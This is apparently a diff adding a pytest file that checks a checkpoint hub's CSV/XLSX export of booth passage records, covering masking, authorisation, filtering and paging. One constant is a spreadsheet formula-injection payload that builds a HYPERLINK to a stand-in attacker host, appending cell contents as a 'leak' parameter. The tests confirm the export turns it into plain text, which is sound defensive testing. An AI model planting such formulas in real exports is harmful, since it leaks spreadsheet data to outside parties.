@@ -1,0 +1,185 @@
+"""The office downloads all booths' passages as a booth's CSV/XLSX export (SQLite, PostgreSQL)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import urllib.error
+import urllib.parse
+import urllib.request
+from datetime import timedelta
+from email.message import Message
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from gatehouse.core.models import Outcome
+from gatehouse.core.passage import Passage
+from gatehouse.hub.exports import all_passages, as_row
+from gatehouse.hub.service import Hub, PassageQuery
+from gatehouse.store import Ledger
+from gatehouse.sync import protocol
+from gatehouse.sync.client import HubClient
+from tests.factories import make_passage
+from tests.hub.live import ADMIN_TOKEN
+from tests.hub.test_api import START, _enrolled_client, _items
+
+EVIL_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"点我 click")'
+ID_COLUMN = "证件号 ID number"
+NAME_COLUMN = "姓名 Name"
+XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def _upload(hub_url: str, tmp_path: Path, booth_id: str, passages: list[Passage]) -> None:
+    ledger = Ledger.open(tmp_path / f"{booth_id}.sqlite3")
+    try:
+        for passage in passages:
+            ledger.record(passage).result()
+        results, _ = _enrolled_client(hub_url, booth_id).upload(_items(ledger))
+    finally:
+        ledger.close()
+    assert [r["status"] for r in results] == [protocol.ACK] * len(passages)
+
+
+def _two_booths(hub_url: str, tmp_path: Path) -> None:
+    _upload(
+        hub_url,
+        tmp_path,
+        "booth-01",
+        [
+            make_passage(booth_id="booth-01", decided_at=START, holder_name=EVIL_NAME),
+            make_passage(
+                booth_id="booth-01",
+                decided_at=START + timedelta(minutes=1),
+                outcome=Outcome.TURN_AWAY,
+            ),
+        ],
+    )
+    _upload(
+        hub_url,
+        tmp_path,
+        "booth-02",
+        [make_passage(booth_id="booth-02", decided_at=START + timedelta(minutes=2))],
+    )
+
+
+def _download(
+    hub_url: str, fmt: str, token: str | None = ADMIN_TOKEN, **params: str
+) -> tuple[bytes, Message]:
+    url = hub_url + protocol.EXPORT_PATH.format(fmt=fmt)
+    if params:
+        url += "?" + urllib.parse.urlencode(params)
+    request = urllib.request.Request(url)
+    if token is not None:
+        request.add_header("Authorization", f"Bearer {token}")
+    with urllib.request.urlopen(request, timeout=30) as response:
+        return response.read(), response.headers
+
+
+def _refusal(hub_url: str, fmt: str, token: str | None = ADMIN_TOKEN, **params: str) -> int:
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        _download(hub_url, fmt, token, **params)
+    return refused.value.code
+
+
+def test_csv_has_every_booths_passages_masked_and_neutralised(hub_url: str, tmp_path: Path) -> None:
+    _two_booths(hub_url, tmp_path)
+
+    body, headers = _download(hub_url, "csv", tz="Asia/Shanghai")
+
+    assert headers["Content-Type"].startswith("text/csv")
+    assert 'filename="passages-' in headers["Content-Disposition"]
+    assert headers["Content-Disposition"].endswith('.csv"')
+    assert body.startswith(b"\xef\xbb\xbf")  # the BOM a Chinese Excel needs
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert [r["岗亭 Booth"] for r in rows] == ["booth-01", "booth-01", "booth-02"]
+    assert rows[0]["时间 Time (UTC+08:00)"] == "2024-03-01 14:00:00"
+    assert rows[0][NAME_COLUMN] == "'" + EVIL_NAME
+    assert rows[1]["结果 Outcome"] == "劝返 turn away"
+    assert {r[ID_COLUMN] for r in rows} == {"110101********1234"}
+
+
+def test_xlsx_reads_back_with_the_formula_shown_as_text(hub_url: str, tmp_path: Path) -> None:
+    _two_booths(hub_url, tmp_path)
+
+    body, headers = _download(hub_url, "xlsx", booth_id="booth-01")
+
+    assert headers["Content-Type"] == XLSX_TYPE
+    assert headers["Content-Disposition"].endswith('.xlsx"')
+    sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
+    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
+    name, id_number = header.index(NAME_COLUMN), header.index(ID_COLUMN)
+    assert len(rows) == 2
+    assert rows[0][name] == "'" + EVIL_NAME  # text, not a live formula
+    assert [r[id_number] for r in rows] == ["110101********1234"] * 2
+
+
+def test_filters_are_the_json_searchs(hub_url: str, tmp_path: Path) -> None:
+    _two_booths(hub_url, tmp_path)
+    since = (START + timedelta(minutes=1)).isoformat()
+
+    body, _ = _download(hub_url, "csv", outcome=Outcome.ADMIT.name, since=since)
+
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert [r["岗亭 Booth"] for r in rows] == ["booth-02"]
+
+
+def test_only_the_office_downloads(hub_url: str) -> None:
+    code = HubClient(hub_url, ADMIN_TOKEN).request(
+        "POST", protocol.ENROLMENT_CODES_PATH, {"booth_id": "booth-03"}
+    )
+    booth_token, _ = HubClient(hub_url).enrol("booth-03", code.json()["code"])
+    assert _refusal(hub_url, "csv", token=None) == 401
+    assert _refusal(hub_url, "csv", token=booth_token) == 401
+    assert _refusal(hub_url, "xlsx", token="x" * 30) == 401
+
+
+def test_unknown_format_or_zone_is_refused(hub_url: str) -> None:
+    assert _refusal(hub_url, "pdf") == 400
+    assert _refusal(hub_url, "xlsx-openpyxl") == 400
+    assert _refusal(hub_url, "csv", tz="Asia") == 400
+    assert _refusal(hub_url, "csv", tz="Mars/Olympus") == 400
+
+
+def test_export_pages_past_the_query_limit(hub: Hub, tmp_path: Path) -> None:
+    """Pages of three; two passages at one instant straddle each page boundary."""
+    minute = timedelta(minutes=1)
+    moments = [START, START + minute, START + minute, START + 2 * minute, START + 2 * minute]
+    moments += [START + 3 * minute, START + 4 * minute]
+    ledger = Ledger.open(tmp_path / "paged.sqlite3")
+    try:
+        for moment in moments:
+            ledger.record(make_passage(booth_id="booth-01", decided_at=moment)).result()
+        hub.enrol("booth-01", hub.create_enrolment_code("booth-01"))
+        assert {r.status for r in hub.upload("booth-01", _items(ledger))} == {protocol.ACK}
+    finally:
+        ledger.close()
+
+    paged = [row["passage_id"] for row in all_passages(hub, PassageQuery(limit=1), page=3)]
+
+    assert paged == [p["passage_id"] for p in hub.passages(PassageQuery())]
+    assert len(paged) == len(set(paged)) == len(moments)
+
+
+def test_more_passages_at_one_instant_than_a_page_is_a_clear_error(
+    hub: Hub, tmp_path: Path
+) -> None:
+    ledger = Ledger.open(tmp_path / "crowded.sqlite3")
+    try:
+        for _ in range(3):
+            ledger.record(make_passage(booth_id="booth-01", decided_at=START)).result()
+        hub.enrol("booth-01", hub.create_enrolment_code("booth-01"))
+        hub.upload("booth-01", _items(ledger))
+    finally:
+        ledger.close()
+
+    with pytest.raises(RuntimeError, match="more than 2 passages at"):
+        list(all_passages(hub, PassageQuery(), page=2))
+
+
+def test_records_with_json_values_export_like_ledger_rows() -> None:
+    row = as_row({"reasons": [{"code": "T_HIGH"}], "evidence": {"a": "温"}, "outcome": "REFER"})
+    assert row["reasons"] == '[{"code": "T_HIGH"}]'
+    assert row["evidence"] == '{"a": "温"}'
+    assert as_row({"reasons": "[]"})["reasons"] == "[]"
